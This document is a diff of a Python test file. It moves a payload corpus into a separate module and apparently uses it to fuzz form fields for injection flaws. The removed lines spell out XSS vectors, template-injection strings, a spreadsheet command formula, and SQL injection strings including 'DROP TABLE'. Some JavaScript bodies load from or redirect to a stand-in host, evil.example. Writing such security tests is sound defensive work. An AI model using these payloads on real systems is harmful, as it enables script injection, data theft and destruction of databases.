@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 from front_desk import Clerk, FrontDesk, front_desk
+from hostile import BODIES, WORDS
 from resident import Resident, a_file
 
 from cases.documents.store import Store
@@ -19,27 +20,6 @@ from geo.database import from_cluster
 sys.path.append(str(Path(__file__).parents[1] / "cases"))
 import files
 
-BODIES = (
-    "alert({n})", "fetch('//evil.example/{n}')", "document.title='{n}'", "top['al'+'ert']({n})",
-    "`${{{n}}}`", "eval(atob('YWxlcnQoMSk={n}'))", "location='//evil.example/{n}'",
-    "import('//evil.example/{n}')",
-)  # fmt: skip
-SHELLS = (
-    "<script>{}</script>", '"><script>{}</script>', "'><img src=x onerror={}>", "<svg onload={}>",
-    "</textarea><script>{}</script>", "</title><svg/onload={}>", "<img src=x onerror='{}'>",
-    "javascript:{}", "<iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>",
-    "<math><mi//xlink:href='data:x,<script>{}</script>'>", "{{{{{}}}}}", "{{% {} %}}", "${{{}}}",
-    "<details open ontoggle={}>", "<body onpageshow={}>", "<style>@import'//e/{}'</style>",
-    "<!--><script>{}</script>-->", "<form><button formaction=javascript:{}>x</button></form>",
-    "<scr\u200bipt>{}</scr\u200bipt>", "\u2028<script>{}</script>", "=cmd|'/C {}'!A0",
-    "<x onclick={}>x</x>", "<template><script>{}</script></template>",
-    "%3Cscript%3E{}%3C/script%3E",
-    "'; DROP TABLE lotline.complaint; --{}", "' OR '1'='1' /*{}*/",
-)  # fmt: skip
-WORDS = [
-    shell.format(body.format(n=n))
-    for n, (shell, body) in enumerate(product(SHELLS, BODIES))
-]  # fmt: skip
 FIELDS = ("said", "where", "name", "home", "phone", "email", "same_as", "website", "kind", "who")
 POLYGLOTS = {
     "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
